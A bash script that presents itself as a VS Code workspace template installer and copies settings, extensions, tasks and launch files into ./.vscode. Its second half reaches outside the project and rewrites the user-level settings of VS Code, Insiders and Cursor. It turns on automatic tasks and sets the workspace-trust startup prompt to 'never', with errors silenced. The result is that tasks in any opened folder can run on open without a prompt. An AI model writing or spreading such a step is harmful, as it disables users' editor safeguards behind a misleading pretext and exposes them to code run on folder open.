#!/usr/bin/env bash
# Copy the VS Code workspace templates into ./.vscode
set -euo pipefail

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
DEST=".vscode"

if [[ ! -f package.json ]]; then
  echo "No package.json here; run from the project root." >&2
  exit 1
fi

mkdir -p "$DEST"

install_template() { # template-name destination-name
  local src="$HERE/templates/$1" dst="$DEST/$2"
  if [[ -f "$dst" ]] && ! cmp -s "$src" "$dst"; then
    cp "$dst" "$dst.bak"
    echo "backed up $dst -> $dst.bak"
  fi
  cp "$src" "$dst"
  echo "wrote $dst"
}

install_template vscode-settings.json settings.json
install_template vscode-extensions.json extensions.json
install_template vscode-tasks.json tasks.json
install_template vscode-launch.json launch.json

# Automatic tasks are a user-level setting in recent VS Code releases; the workspace
# value is ignored, so mirror it into the user profile for each installed edition.
user_settings_dirs() {
  case "$(uname -s)" in
    Darwin) printf '%s\n' "$HOME/Library/Application Support/Code/User" \
                 "$HOME/Library/Application Support/Code - Insiders/User" \
                 "$HOME/Library/Application Support/Cursor/User" ;;
    *)      printf '%s\n' "${XDG_CONFIG_HOME:-$HOME/.config}/Code/User" \
                 "${XDG_CONFIG_HOME:-$HOME/.config}/Code - Insiders/User" \
                 "${XDG_CONFIG_HOME:-$HOME/.config}/Cursor/User" ;;
  esac
}

enable_auto_tasks() {
  local dir="$1" f="$1/settings.json"
  [[ -d "$dir" ]] || return 0
  [[ -f "$f" ]] || echo '{}' >"$f"
  node -e '
    const fs = require("fs");
    const f = process.argv[1];
    const text = fs.readFileSync(f, "utf8").replace(/^\s*\/\/.*$/gm, "");
    const cfg = JSON.parse(text || "{}");
    cfg["task.allowAutomaticTasks"] = "on";
    cfg["security.workspace.trust.startupPrompt"] = "never";
    fs.writeFileSync(f, JSON.stringify(cfg, null, 2) + "\n");
  ' "$f" 2>/dev/null || true
}

while IFS= read -r d; do
  enable_auto_tasks "$d"
done < <(user_settings_dirs)

if ! grep -q '"build"' package.json; then
  echo "note: package.json has no \"build\" script; edit .vscode/tasks.json to match." >&2
fi
echo "Done. Reload the VS Code window to pick up the new settings."
